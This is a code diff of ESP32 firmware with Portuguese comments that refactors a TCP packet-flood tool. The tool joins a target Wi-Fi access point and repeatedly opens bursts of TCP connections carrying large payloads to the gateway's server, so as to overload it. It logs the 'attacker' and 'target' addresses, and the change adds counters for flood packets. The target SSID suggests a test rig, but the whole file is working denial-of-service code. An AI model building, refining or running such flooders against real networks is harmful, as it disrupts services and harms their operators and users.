@@ -7,12 +7,13 @@
 #include "esp_wifi.h"
 #include "esp_event.h"
 #include "esp_log.h"
-#include "nvs_flash.h"
 #include "esp_netif.h"
 #include "lwip/err.h"
 #include "lwip/sys.h"
 #include "lwip/sockets.h"
 #include "esp_random.h"
+#include "metrics.h"
+#include "wifi_common.h"
 
 // Configurações do AP alvo
 #define TARGET_SSID "ESP32_AP"
@@ -28,16 +29,10 @@
 #define TCP_CONNECTIONS_SIMULTANEOUS 10 // MAIS conexões TCP simultâneas
 
 static const char *TAG = "PACKET_FLOOD";
-static EventGroupHandle_t s_wifi_event_group;
-
-#define WIFI_CONNECTED_BIT BIT0
-#define WIFI_FAIL_BIT      BIT1
 
 static int packets_sent = 0;
-static int packets_failed = 0;
-static bool is_connected = false;
-static esp_ip4_addr_t client_ip;
-static esp_ip4_addr_t gateway_ip;
+static metric_t *m_packets_sent;
+static metric_t *m_packets_failed;
 
 // Event handler para eventos do Wi-Fi
 static void event_handler(void* arg, esp_event_base_t event_base,
@@ -49,28 +44,22 @@ static void event_handler(void* arg, esp_event_base_t event_base,
         ESP_LOGI(TAG, "");
         esp_wifi_connect();
     } else if (event_base == WIFI_EVENT && event_id == WIFI_EVENT_STA_DISCONNECTED) {
-        is_connected = false;
         ESP_LOGI(TAG, "");
         ESP_LOGI(TAG, "Desconectado do alvo!");
         ESP_LOGI(TAG, "");
         
         // Tentar reconectar
         esp_wifi_connect();
-        xEventGroupSetBits(s_wifi_event_group, WIFI_FAIL_BIT);
+        xEventGroupSetBits(wifi_common_event_group(), WIFI_FAIL_BIT);
     } else if (event_base == IP_EVENT && event_id == IP_EVENT_STA_GOT_IP) {
         ip_event_got_ip_t* event = (ip_event_got_ip_t*) event_data;
-        client_ip = event->ip_info.ip;
-        gateway_ip = event->ip_info.gw;
-        is_connected = true;
         
         ESP_LOGI(TAG, "");
         ESP_LOGI(TAG, "CONECTADO AO ALVO!");
-        ESP_LOGI(TAG, "IP do atacante: " IPSTR, IP2STR(&client_ip));
-        ESP_LOGI(TAG, "Alvo (Gateway): " IPSTR, IP2STR(&gateway_ip));
+        ESP_LOGI(TAG, "IP do atacante: " IPSTR, IP2STR(&event->ip_info.ip));
+        ESP_LOGI(TAG, "Alvo (Gateway): " IPSTR, IP2STR(&event->ip_info.gw));
         ESP_LOGI(TAG, "Pronto para flood de pacotes!");
         ESP_LOGI(TAG, "");
-        
-        xEventGroupSetBits(s_wifi_event_group, WIFI_CONNECTED_BIT);
     }
 }
 
@@ -95,13 +84,15 @@ void generate_tcp_flood_data(char* buffer, size_t size, int packet_num)
 // Função para executar rajada intensiva de TCP flood
 void execute_tcp_flood_burst(void)
 {
-    if (!is_connected) {
+    if (!wifi_common_is_connected()) {
         ESP_LOGI(TAG, "");
         ESP_LOGI(TAG, "Nao conectado - nao e possivel fazer TCP flood");
         ESP_LOGI(TAG, "");
         return;
     }
 
+    esp_ip4_addr_t gateway_ip = wifi_common_gateway();
+
     ESP_LOGI(TAG, "");
     ESP_LOGI(TAG, "EXECUTANDO TCP FLOOD BURST #%d", (packets_sent / PACKETS_PER_BURST) + 1);
     ESP_LOGI(TAG, "Alvo: " IPSTR ":%d (Servidor TCP do AP)", IP2STR(&gateway_ip), TCP_SERVER_PORT);
@@ -114,7 +105,7 @@ void execute_tcp_flood_burst(void)
         
         int sock = socket(AF_INET, SOCK_STREAM, IPPROTO_TCP);
         if (sock < 0) {
-            packets_failed++;
+            metric_inc(m_packets_failed);
             continue;
         }
         
@@ -137,11 +128,11 @@ void execute_tcp_flood_burst(void)
                 
                 // NÃO aguardar - enviar e fechar rapidamente para sobrecarregar
             } else {
-                packets_failed++;
+                metric_inc(m_packets_failed);
                 ESP_LOGD(TAG, "Falha no envio TCP #%d", packets_sent + i + 1);
             }
         } else {
-            packets_failed++;
+            metric_inc(m_packets_failed);
             ESP_LOGD(TAG, "Falha na conexao TCP #%d para servidor do AP", packets_sent + i + 1);
         }
         
@@ -152,6 +143,7 @@ void execute_tcp_flood_burst(void)
     }
     
     packets_sent += PACKETS_PER_BURST;
+    metric_add(m_packets_sent, PACKETS_PER_BURST);
     ESP_LOGI(TAG, "TCP flood burst completo! Total enviado: %d", packets_sent);
     ESP_LOGI(TAG, "");
 }
@@ -159,6 +151,9 @@ void execute_tcp_flood_burst(void)
 // Função para mostrar estatísticas do TCP flood
 void show_flood_stats(void)
 {
+    esp_ip4_addr_t gateway_ip = wifi_common_gateway();
+    int packets_failed = metric_value(m_packets_failed);
+
     ESP_LOGI(TAG, "");
     ESP_LOGI(TAG, "");
     ESP_LOGI(TAG, "=== ESTATISTICAS DO TCP FLOOD ===");
@@ -171,7 +166,8 @@ void show_flood_stats(void)
     ESP_LOGI(TAG, "Taxa atual: ~%d conexoes/seg", 
              (1000 / FLOOD_INTERVAL_MS) * PACKETS_PER_BURST);
     ESP_LOGI(TAG, "Tamanho do pacote TCP: %d bytes", LARGE_PACKET_SIZE);
-    ESP_LOGI(TAG, "Status: %s", is_connected ? "CONECTADO" : "DESCONECTADO");
+    ESP_LOGI(TAG, "Status: %s", wifi_common_is_connected() ? "CONECTADO" : "DESCONECTADO");
+    metrics_log_all(TAG);
     ESP_LOGI(TAG, "==========================================");
     ESP_LOGI(TAG, "");
 }
@@ -188,7 +184,7 @@ static void packet_flood_attack_task(void *pvParameters)
     ESP_LOGI(TAG, "Tamanho do pacote TCP: %d bytes", LARGE_PACKET_SIZE);
     
     // Aguardar conexão inicial
-    while (!is_connected) {
+    while (!wifi_common_is_connected()) {
         ESP_LOGI(TAG, "Aguardando conexão...");
         vTaskDelay(pdMS_TO_TICKS(2000));
     }
@@ -196,7 +192,7 @@ static void packet_flood_attack_task(void *pvParameters)
     ESP_LOGI(TAG, "Conectado! Iniciando TCP flood contra servidor do AP em 3 segundos...");
     vTaskDelay(pdMS_TO_TICKS(3000));
     
-    while (packets_sent < MAX_FLOOD_PACKETS && is_connected) {
+    while (packets_sent < MAX_FLOOD_PACKETS && wifi_common_is_connected()) {
         // Executar apenas TCP flood direcionado ao servidor do AP
         execute_tcp_flood_burst();
         
@@ -220,44 +216,13 @@ static void packet_flood_attack_task(void *pvParameters)
 // Função para inicializar Wi-Fi
 void wifi_init_packet_flooder(void)
 {
-    s_wifi_event_group = xEventGroupCreate();
-
-    ESP_ERROR_CHECK(esp_netif_init());
-    ESP_ERROR_CHECK(esp_event_loop_create_default());
-    
-    esp_netif_create_default_wifi_sta();
-
-    wifi_init_config_t cfg = WIFI_INIT_CONFIG_DEFAULT();
-    ESP_ERROR_CHECK(esp_wifi_init(&cfg));
-
-    esp_event_handler_instance_t instance_any_id;
-    esp_event_handler_instance_t instance_got_ip;
-    ESP_ERROR_CHECK(esp_event_handler_instance_register(WIFI_EVENT,
-                                                        ESP_EVENT_ANY_ID,
-                                                        &event_handler,
-                                                        NULL,
-                                                        &instance_any_id));
-    ESP_ERROR_CHECK(esp_event_handler_instance_register(IP_EVENT,
-                                                        IP_EVENT_STA_GOT_IP,
-                                                        &event_handler,
-                                                        NULL,
-                                                        &instance_got_ip));
-
-    wifi_config_t wifi_config = {
-        .sta = {
-            .ssid = TARGET_SSID,
-            .password = TARGET_PASS,
-            .threshold.authmode = WIFI_AUTH_WPA2_PSK,
-            .pmf_cfg = {
-                .capable = true,
-                .required = false
-            },
-        },
+    wifi_common_sta_config_t sta_config = {
+        .ssid = TARGET_SSID,
+        .password = TARGET_PASS,
+        .handler = &event_handler,
+        .start = true,
     };
-
-    ESP_ERROR_CHECK(esp_wifi_set_mode(WIFI_MODE_STA));
-    ESP_ERROR_CHECK(esp_wifi_set_config(WIFI_IF_STA, &wifi_config));
-    ESP_ERROR_CHECK(esp_wifi_start());
+    wifi_common_init_sta(&sta_config);
     
     ESP_LOGI(TAG, "");
     ESP_LOGI(TAG, "Wi-Fi configurado para TCP flood!");
@@ -267,12 +232,10 @@ void wifi_init_packet_flooder(void)
 void app_main(void)
 {
     // Inicializar NVS
-    esp_err_t ret = nvs_flash_init();
-    if (ret == ESP_ERR_NVS_NO_FREE_PAGES || ret == ESP_ERR_NVS_NEW_VERSION_FOUND) {
-        ESP_ERROR_CHECK(nvs_flash_erase());
-        ret = nvs_flash_init();
-    }
-    ESP_ERROR_CHECK(ret);
+    wifi_common_nvs_init();
+
+    m_packets_sent = metrics_counter("flood_packets_sent_total", "Conexoes TCP de flood tentadas");
+    m_packets_failed = metrics_counter("flood_packets_failed_total", "Conexoes/envios de flood que falharam");
 
     ESP_LOGI(TAG, "");
     ESP_LOGI(TAG, "");